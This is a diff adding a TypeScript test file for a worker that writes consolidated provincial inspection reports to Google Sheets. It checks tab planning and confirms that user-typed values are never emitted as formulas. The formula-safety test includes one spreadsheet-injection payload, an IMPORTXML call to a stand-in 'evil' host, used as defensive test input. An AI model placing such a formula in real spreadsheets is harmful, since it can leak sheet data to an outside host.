@@ -1,0 +1,111 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { zeroMetrics } from "../../shared/metrics.ts";
+import { resolvePeriod } from "../../shared/periods.ts";
+import { emptyUnitRows } from "../../shared/read-unit.ts";
+import type { ConsolidationReport } from "../../worker/consolidation/model.ts";
+import { buildOutputRequests } from "../../worker/consolidation/output/build-output.ts";
+import { text } from "../../worker/consolidation/output/cells.ts";
+import { planTabs } from "../../worker/consolidation/output/tab-plan.ts";
+
+const period = resolvePeriod("2026")!;
+
+function report(target: string): ConsolidationReport {
+  const rows = emptyUnitRows();
+  rows.inspections.push({
+    date: "2026-03-05",
+    inspector: "Ban Chỉ đạo cấp tỉnh",
+    method: "Kiểm tra",
+    target,
+    targetType: "Doanh nghiệp",
+    rating: null,
+    recommendations: 3,
+    remedied: 1,
+    notes: target,
+  });
+  return {
+    period,
+    generatedAt: "2026-11-23T08:00:00.000Z",
+    outcomes: [
+      {
+        state: {
+          code: target,
+          position: 0,
+          name: target,
+          spreadsheetId: "x",
+          status: "stale",
+          error: target,
+          checkedAt: "2026-11-23T08:00:00.000Z",
+          readAt: "2026-11-22T08:00:00.000Z",
+          snapshotSpreadsheetId: "x",
+          tabTitles: null,
+        },
+        snapshot: { rows, issues: [], invalidRows: 0 },
+        metrics: zeroMetrics(),
+        errorFromRegistry: false,
+      },
+    ],
+    provinceIssues: [],
+    total: zeroMetrics(),
+  };
+}
+
+describe("output requests", () => {
+  it("never carry a formula, whatever a unit typed", () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc.string().map((s) => `=${s}`),
+          fc.constant('=IMPORTXML("http://evil","//a")'),
+        ),
+        (value) => {
+          const json = JSON.stringify(buildOutputRequests(report(value), [], []));
+          expect(json).not.toContain("formulaValue");
+        },
+      ),
+      { numRuns: 50 },
+    );
+  });
+
+  it("adds missing tabs with fresh sheetIds and resizes existing ones to the content", () => {
+    const requests = planTabs(
+      [
+        { sheetId: 0, title: "Đơn vị" },
+        { sheetId: 7, title: "tổng hợp", gridProperties: { rowCount: 1000, columnCount: 26 } },
+      ],
+      [
+        {
+          title: "Tổng hợp",
+          rows: [[text("a"), text("b")], [text("c")]],
+          frozenRows: 1,
+          columnWidths: [50],
+        },
+        { title: "Nhật ký", rows: [[text("x")]], frozenRows: 1, columnWidths: [] },
+        { title: "Lỗi dữ liệu", rows: [[text("y")]], frozenRows: 1, columnWidths: [] },
+      ],
+    );
+    const kinds = requests.map((r) => Object.keys(r)[0]);
+    expect(kinds).toEqual([
+      "updateSheetProperties",
+      "updateCells",
+      "updateDimensionProperties",
+      "addSheet",
+      "updateCells",
+      "addSheet",
+      "updateCells",
+    ]);
+    const added = requests.flatMap((r) => ("addSheet" in r ? [r.addSheet.properties] : []));
+    expect(added.map((p) => [p.title, p.sheetId])).toEqual([
+      ["Nhật ký", 8],
+      ["Lỗi dữ liệu", 9],
+    ]);
+    const resize = requests[0];
+    expect(
+      resize && "updateSheetProperties" in resize && resize.updateSheetProperties.properties,
+    ).toEqual({
+      sheetId: 7,
+      gridProperties: { rowCount: 3, columnCount: 2, frozenRowCount: 1, frozenColumnCount: 0 },
+    });
+  });
+});
